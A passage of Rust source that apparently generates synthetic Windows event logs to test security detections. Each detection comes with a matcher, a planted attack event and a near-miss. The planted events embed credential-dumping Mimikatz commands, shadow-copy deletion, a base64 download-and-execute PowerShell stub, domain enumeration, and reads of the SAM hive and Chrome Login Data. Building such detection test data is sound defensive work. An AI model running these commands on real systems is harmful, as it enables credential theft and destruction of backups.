                "servicePrincipalName",
                "MSSQLSvc/{rand}.corp.example:1433",
                "%%14674",
            )
        },
        near_miss: |p| {
            directory_change(
                p,
                "servicePrincipalName",
                "MSSQLSvc/{rand}.corp.example:1433",
                "%%14675",
            )
        },
    },
    Detection {
        name: "Windows AD SID History Attribute Modified",
        file: "windows_ad_sid_history_attribute_modified.yml",
        source: "wineventlog_security",
        kinds: &[Kind::Security5136],
        // EventCode=5136 AttributeLDAPDisplayName=sIDHistory OperationType="%%14674"
        matches: |e| {
            e.kind() == Kind::Security5136
                && is(e, "AttributeLDAPDisplayName", "sIDHistory")
                && is(e, "OperationType", "%%14674")
        },
        plant: |p| {
            directory_change(
                p,
                "sIDHistory",
                "S-1-5-21-3902226453-2381227161-1473519924-{n4}",
                "%%14674",
            )
        },
        near_miss: |p| {
            directory_change(
                p,
                "sIDHistory",
                "S-1-5-21-3902226453-2381227161-1473519924-{n4}",
                "%%14675",
            )
        },
    },
    Detection {
        name: "Executable File Written in Administrative SMB Share",
        file: "executable_file_written_in_administrative_smb_share.yml",
        source: "wineventlog_security",
        kinds: &[Kind::Security5145],
        // EventCode=5145 RelativeTargetName IN ("*.exe","*.dll") ObjectType=File ShareName IN ("\\\\*\\C$","\\\\*\\IPC$","\\\\*\\admin$") AccessMask= "0x2"
        matches: |e| {
            e.kind() == Kind::Security5145
                && is_any(e, "RelativeTargetName", &["*.exe", "*.dll"])
                && is(e, "ObjectType", "File")
                && is_any(
                    e,
                    "ShareName",
                    &["\\\\*\\C$", "\\\\*\\IPC$", "\\\\*\\admin$"],
                )
                && is(e, "AccessMask", "0x2")
        },
        plant: |p| share_write(p, r"\\*\ADMIN$", r"{rand}.exe", "0x2"),
        near_miss: |p| share_write(p, r"\\*\ADMIN$", r"{rand}.exe", "0x1"),
    },
    Detection {
        name: "PetitPotam Network Share Access Request",
        file: "petitpotam_network_share_access_request.yml",
        source: "wineventlog_security",
        kinds: &[Kind::Security5145],
        // SubjectUserName="ANONYMOUS LOGON" EventCode=5145 RelativeTargetName=lsarpc
        matches: |e| {
            e.kind() == Kind::Security5145
                && is(e, "SubjectUserName", "ANONYMOUS LOGON")
                && is(e, "RelativeTargetName", "lsarpc")
        },
        plant: |p| anonymous_pipe(p, "lsarpc"),
        near_miss: |p| anonymous_pipe(p, "srvsvc"),
    },
    Detection {
        name: "Non Chrome Process Accessing Chrome Default Dir",
        file: "non_chrome_process_accessing_chrome_default_dir.yml",
        source: "wineventlog_security",
        kinds: &[Kind::Security4663],
        // EventCode=4663 NOT (ProcessName IN ("*\\chrome.exe", "*\\explorer.exe", "*sql*")) ObjectName="*\\Google\\Chrome\\User Data\\Default*"
        matches: |e| {
            e.kind() == Kind::Security4663
                && !is_any(
                    e,
                    "ProcessName",
                    &["*\\chrome.exe", "*\\explorer.exe", "*sql*"],
                )
                && is(e, "ObjectName", r"*\Google\Chrome\User Data\Default*")
        },
        plant: |p| {
            object_read(
                p,
                r"C:\Users\{user}\AppData\Local\Temp\{rand}.exe",
                r"C:\Users\{user}\AppData\Local\Google\Chrome\User Data\Default\Login Data",
            )
        },
        near_miss: |p| {
            object_read(
                p,
                r"C:\Users\{user}\AppData\Local\Temp\{rand}.exe",
                r"C:\Users\{user}\AppData\Local\Google\Chrome\User Data\Profile 1\Login Data",
            )
        },
    },
    Detection {
        name: "SAM Database File Access Attempt",
        file: "sam_database_file_access_attempt.yml",
        source: "wineventlog_security",
        kinds: &[Kind::Security4663],
        // (EventCode=4663) ProcessName!=*\\dllhost.exe ObjectName IN ("*\\Windows\\System32\\config\\SAM*", …SYSTEM*, …SECURITY*)
        matches: |e| {
            e.kind() == Kind::Security4663
                && is_not(e, "ProcessName", "*\\dllhost.exe")
                && is_any(
                    e,
                    "ObjectName",
                    &[
                        r"*\Windows\System32\config\SAM*",
                        r"*\Windows\System32\config\SYSTEM*",
                        r"*\Windows\System32\config\SECURITY*",
                    ],
                )
        },
        plant: |p| {
            let hive = p.pick(&["SAM", "SYSTEM", "SECURITY"]);
            object_read(
                p,
                r"C:\Users\{user}\Downloads\{rand}.exe",
                &format!(r"C:\Windows\System32\config\{hive}"),
            );
        },
        near_miss: |p| {
            object_read(
                p,
                r"C:\Windows\System32\dllhost.exe",
                r"C:\Windows\System32\config\SAM",
            )
        },
    },
    // Raw wineventlog_system.
    Detection {
        name: "Windows KrbRelayUp Service Creation",
        file: "windows_krbrelayup_service_creation.yml",
        source: "wineventlog_system",
        kinds: &[Kind::System7045],
        // EventCode=7045 ServiceName IN ("KrbSCM")
        matches: |e| e.kind() == Kind::System7045 && is(e, "ServiceName", "KrbSCM"),
        // The tool's folder varies per run: the search groups by dest and ImagePath, so two
        // plants on one host (a 1 GiB corpus has 36 over 2,000 hosts) were one row.
        plant: |p| {
            service(
                p,
                "KrbSCM",
                r"C:\Users\{user}\Downloads\{rand}\KrbRelayUp.exe system",
            )
        },
        near_miss: |p| service(p, "KrbSCMHelper", r#""C:\Program Files\{word}\helper.exe""#),
    },
    Detection {
        name: "Windows Service Created Within Public Path",
        file: "windows_service_created_within_public_path.yml",
        source: "wineventlog_system",
        kinds: &[Kind::System7045],
        // EventCode=7045 ImagePath = "*.exe" NOT (ImagePath IN ("*:\\Windows\\*", "*:\\Program File*", "*:\\Programdata\\*", "*%systemroot%\\*"))
        matches: service_in_public_path,
        plant: |p| service(p, "{rand}svc", r"C:\Users\Public\{rand}.exe"),
        near_miss: |p| service(p, "{rand}svc", r"C:\Program Files\{word}\{rand}.exe"),
    },
    Detection {
        name: "Windows Service Created with Suspicious Service Path",
        file: "windows_service_created_with_suspicious_service_path.yml",
        source: "wineventlog_system",
        kinds: &[Kind::System7045],
        // The same search as Windows Service Created Within Public Path.
        matches: service_in_public_path,
        plant: |p| {
            service(
                p,
                "{rand}",
                r"C:\Users\{user}\AppData\Local\Temp\{rand}.exe",
            )
        },
        near_miss: |p| service(p, "{rand}", r"%SystemRoot%\{rand}.exe"),
    },
    Detection {
        name: "Clop Ransomware Known Service Name",
        file: "clop_ransomware_known_service_name.yml",
        source: "wineventlog_system",
        kinds: &[Kind::System7045],
        // EventCode=7045 ServiceName IN ("SecurityCenterIBM", "WinCheckDRVs")
        matches: |e| {
            e.kind() == Kind::System7045
                && is_any(e, "ServiceName", &["SecurityCenterIBM", "WinCheckDRVs"])
        },
        plant: |p| {
            let name = p.pick(&["SecurityCenterIBM", "WinCheckDRVs"]);
            service(p, name, r"C:\ProgramData\{rand}\{rand}.exe");
        },
        near_miss: |p| service(p, "WinCheckDRV", r"C:\ProgramData\{rand}\{rand}.exe"),
    },
    // Raw powershell (4104).
    Detection {
        name: "Detect Mimikatz With PowerShell Script Block Logging",
        file: "detect_mimikatz_with_powershell_script_block_logging.yml",
        source: "powershell",
        kinds: &[Kind::PowerShell4104],
        // EventCode=4104 ScriptBlockText IN (*mimikatz*, *-dumpcr*, *sekurlsa::pth*, *kerberos::ptt*, *kerberos::golden*)
        matches: |e| {
            e.kind() == Kind::PowerShell4104
                && is_any(
                    e,
                    "ScriptBlockText",
                    &[
                        "*mimikatz*",
                        "*-dumpcr*",
                        "*sekurlsa::pth*",
                        "*kerberos::ptt*",
                        "*kerberos::golden*",
                    ],
                )
        },
        plant: |p| {
            let script = p.pick(&[
                "Invoke-Mimikatz -Command '\"privilege::debug\" \"sekurlsa::logonpasswords\" \"exit\"'",
                "Invoke-Mimikatz -DumpCreds -ComputerName {ws}",
                "$cmd = 'kerberos::ptt C:\\Users\\Public\\{rand}.kirbi'\r\nInvoke-Expression \"& $env:TEMP\\k.exe $cmd\"",
            ]);
            p.script(script, true);
        },
        near_miss: |p| {
            p.script(
                "klist.exe purge\r\nklist.exe tickets | Out-File \"$env:TEMP\\tickets-{n4}.txt\"",
                false,
            )
        },
    },
    Detection {
        name: "Get DomainUser with PowerShell Script Block",
        file: "get_domainuser_with_powershell_script_block.yml",
        source: "powershell",
        kinds: &[Kind::PowerShell4104],
        // EventCode=4104 ScriptBlockText = "*Get-DomainUser*"
        matches: |e| {
            e.kind() == Kind::PowerShell4104 && is(e, "ScriptBlockText", "*Get-DomainUser*")
        },
        plant: |p| {
            p.script("Get-DomainUser -SPN | Select-Object samaccountname, serviceprincipalname | Export-Csv \"$env:TEMP\\{rand}.csv\"", false)
        },
        near_miss: |p| {
            p.script(
                "Get-ADUser -Identity {user} -Properties LastLogonDate, PasswordLastSet",
                false,
            )
        },
    },
    Detection {
        name: "PowerShell Domain Enumeration",
        file: "powershell_domain_enumeration.yml",
        source: "powershell",
        kinds: &[Kind::PowerShell4104],
        // EventCode=4104 ScriptBlockText IN (*get-netdomaintrust*, *get-netforesttrust*, *get-addomain*, *get-adgroupmember*, *get-domainuser*)
        matches: |e| {
            e.kind() == Kind::PowerShell4104
                && is_any(
                    e,
                    "ScriptBlockText",
                    &[
                        "*get-netdomaintrust*",
                        "*get-netforesttrust*",
                        "*get-addomain*",
                        "*get-adgroupmember*",
                        "*get-domainuser*",
                    ],
                )
        },
        plant: |p| {
            let script = p.pick(&[
                "Get-NetDomainTrust -Domain corp.example",
                "Get-ADGroupMember -Identity 'Domain Admins' -Recursive | Select-Object SamAccountName",
                "Get-NetForestTrust",
            ]);
            p.script(script, false);
        },
        near_miss: |p| {
            p.script(
                "Get-NetIPConfiguration | Select-Object InterfaceAlias, IPv4Address",
                false,
            )
        },
    },
    Detection {
        name: "Delete ShadowCopy With PowerShell",
        file: "delete_shadowcopy_with_powershell.yml",
        source: "powershell",
        kinds: &[Kind::PowerShell4104],
        // EventCode=4104 ScriptBlockText= "*ShadowCopy*" (ScriptBlockText = "*Delete*" OR ScriptBlockText = "*Remove*")
        matches: |e| {
            e.kind() == Kind::PowerShell4104
                && is(e, "ScriptBlockText", "*ShadowCopy*")
                && is_any(e, "ScriptBlockText", &["*Delete*", "*Remove*"])
        },
        plant: |p| {
            let script = p.pick(&[
                "Get-WmiObject Win32_Shadowcopy | ForEach-Object { $_.Delete() }",
                "Get-CimInstance Win32_ShadowCopy | Remove-CimInstance",
            ]);
            p.script(script, true);
        },
        near_miss: |p| {
            p.script(
                "Get-CimInstance Win32_ShadowCopy | Select-Object ID, InstallDate, VolumeName",
                false,
            )
        },
    },
    Detection {
        name: "Powershell Fileless Script Contains Base64 Encoded Content",
        file: "powershell_fileless_script_contains_base64_encoded_content.yml",
        source: "powershell",
        kinds: &[Kind::PowerShell4104],
        // EventCode=4104 ScriptBlockText = "*frombase64string*" OR ScriptBlockText = "*gnirtS46esaBmorF*"
        matches: |e| {
            e.kind() == Kind::PowerShell4104
                && is_any(
                    e,
                    "ScriptBlockText",
                    &["*frombase64string*", "*gnirtS46esaBmorF*"],
                )
        },
        plant: |p| {
            p.script("$b = [System.Convert]::FromBase64String('SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA{rand}')\r\n$s = [System.Text.Encoding]::Unicode.GetString($b)\r\nInvoke-Expression $s", true)
        },
        near_miss: |p| {
            p.script("$payload = Get-Content -Raw C:\\ProgramData\\{word}\\config.json\r\n[Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes($payload))", false)
        },
    },
    Detection {
        name: "GetLocalUser with PowerShell Script Block",
        file: "getlocaluser_with_powershell_script_block.yml",
        source: "powershell",
        kinds: &[Kind::PowerShell4104],
        // EventCode=4104 (ScriptBlockText = "*Get-LocalUser*")
        matches: |e| {
            e.kind() == Kind::PowerShell4104 && is(e, "ScriptBlockText", "*Get-LocalUser*")
        },
        plant: |p| {
            p.script("Get-LocalUser | Where-Object Enabled | Select-Object Name, LastLogon, PasswordLastSet", false)
        },
        near_miss: |p| {
            p.script(
                "Get-LocalGroupMember -Group 'Remote Desktop Users' | Select-Object Name",
                false,
            )
        },
    },
];

fn service_in_public_path(e: &dyn Fields) -> bool {
    e.kind() == Kind::System7045
        && is(e, "ImagePath", "*.exe")
        && !is_any(
            e,
            "ImagePath",
            &[
                "*:\\Windows\\*",
                "*:\\Program File*",
                "*:\\Programdata\\*",
                "*%systemroot%\\*",
            ],
        )
}

fn registry_write(p: &mut Plant<'_, '_, '_, '_>, target: &str, details: &str) {
    let image = p.pick(&[
        r"C:\Windows\System32\reg.exe",
        PS,
        r"C:\Users\{user}\AppData\Local\Temp\{rand}.exe",
    ]);
    let image = p.x(image);
    p.set("EventType", "SetValue");
    p.set("TargetObject", target);
    p.set("Details", details);
    p.set("Image", &image);
}

fn file_write(p: &mut Plant<'_, '_, '_, '_>, image: &str, path: &str) {
    let image = p.x(image);
    let path = p.x(path);
    p.set("Image", &image);
    p.set("TargetFilename", &path);
    let now = p.d.get("UtcTime").unwrap_or_default().to_owned();
    p.set("CreationUtcTime", &now);
}

fn connect(p: &mut Plant<'_, '_, '_, '_>, image: &str, port: &str) {
    let image = p.x(image);
    p.set("Image", &image);
    p.set("DestinationPort", port);
    p.set("Initiated", "true");
    if port == "443" {
        let ip = p.x("{pub}");
        p.set("DestinationIp", &ip);
        p.set("DestinationHostname", "-");
        p.set("DestinationPortName", "https");
    } else {
        let dc = p.env.ctx.fleet.dc(p.env.rng);
        let (ip, name) = (dc.ip_text(), dc.fqdn.clone());
        p.set("DestinationIp", &ip);
        p.set("DestinationHostname", &name);
        p.set(
            "DestinationPortName",
            if port == "389" { "ldap" } else { "-" },
        );
    }
    let host = p.env.ctx.host;
    p.set("SourceIp", &host.ip_text());
    p.set("SourceHostname", &host.fqdn);
}

fn dns(p: &mut Plant<'_, '_, '_, '_>, image: &str, name: &str) {
    let image = p.x(image);
    let name = p.x(name);
    let result = p.x("::ffff:{pub};");
    p.set("Image", &image);
    p.set("QueryName", &name);
    p.set("QueryStatus", "0");
    p.set("QueryResults", &result);
}

fn image_load(p: &mut Plant<'_, '_, '_, '_>, image: &str, loaded: &str, original: &str) {
    p.set("Image", image);
    p.set("ImageLoaded", loaded);
    p.set("OriginalFileName", original);
    p.set("Description", "-");
    p.set("Signed", "true");
    p.set("Signature", "Microsoft Windows");
    p.set("SignatureStatus", "Valid");
}

fn process_access(
    p: &mut Plant<'_, '_, '_, '_>,
    source: &str,
    lsass: bool,
    access: &str,
    trace: &str,
) {
    let source = p.x(source);
    let trace = p.x(trace);
    let user = if source.contains(r"\Users\") {
        format!(r"{}\{}", crate::mixed::fleet::DOMAIN, p.env.ctx.user.sam)
    } else {
        r"NT AUTHORITY\SYSTEM".to_owned()
    };
    p.set("SourceImage", &source);
    p.set("SourceUser", &user);
    if lsass {
        p.set("TargetImage", LSASS);
        let pid = p.env.ctx.host.lsass_pid.to_string();
        p.set("TargetProcessId", &pid);
        p.set("TargetUser", r"NT AUTHORITY\SYSTEM");
    } else {
        p.set("TargetImage", r"C:\Windows\System32\svchost.exe");
    }
    p.set("GrantedAccess", access);
    p.set("CallTrace", &trace);
}

fn directory_change(p: &mut Plant<'_, '_, '_, '_>, attribute: &str, value: &str, operation: &str) {
    let value = p.x(value);
    let who = p.x("CN={user},OU=Users,OU=Corp,DC=corp,DC=example");
    p.set("ObjectDN", &who);
    p.set("ObjectClass", "user");
    p.set("AttributeLDAPDisplayName", attribute);
    p.set(
        "AttributeSyntaxOID",
        if attribute == "sIDHistory" {
            "2.5.5.17"
        } else {
            "2.5.5.12"
        },
    );
    p.set("AttributeValue", &value);
    p.set("OperationType", operation);
}

fn share_write(p: &mut Plant<'_, '_, '_, '_>, share: &str, target: &str, mask: &str) {
    let target = p.x(target);
    p.set("ShareName", share);
    p.set("ShareLocalPath", r"\??\C:\Windows");
    p.set("RelativeTargetName", &target);
    p.set("ObjectType", "File");
    p.set("AccessMask", mask);
    p.set(
        "AccessList",
        if mask == "0x2" {
            "%%4417\r\n\t\t\t\t"
        } else {
            "%%4416\r\n\t\t\t\t"
        },
    );
}

fn anonymous_pipe(p: &mut Plant<'_, '_, '_, '_>, pipe: &str) {
    p.set("SubjectUserSid", "S-1-5-7");
    p.set("SubjectUserName", "ANONYMOUS LOGON");
    p.set("SubjectDomainName", "NT AUTHORITY");
    p.set("ShareName", r"\\*\IPC$");
    p.set("ShareLocalPath", "");
    p.set("RelativeTargetName", pipe);
    p.set("AccessMask", "0x3");
}

fn object_read(p: &mut Plant<'_, '_, '_, '_>, process: &str, object: &str) {
    let process = p.x(process);
    let object = p.x(object);
    p.set("ObjectType", "File");
    p.set("ObjectName", &object);
    p.set("ProcessName", &process);
    p.set("AccessList", "%%4416\r\n\t\t\t\t");
    p.set("AccessMask", "0x1");
}

fn service(p: &mut Plant<'_, '_, '_, '_>, name: &str, path: &str) {
    let name = p.x(name);
    let path = p.x(path);
    p.set("ServiceName", &name);
    p.set("ImagePath", &path);
    p.set("ServiceType", "user mode service");
    p.set("StartType", "demand start");
    p.set("AccountName", "LocalSystem");
}

/// Which planted detections an event satisfies.
pub fn matching(e: &dyn Fields) -> impl Iterator<Item = usize> + '_ {
    DETECTIONS
        .iter()
        .enumerate()
        .filter(move |(_, d)| (d.matches)(e))
        .map(|(i, _)| i)
}
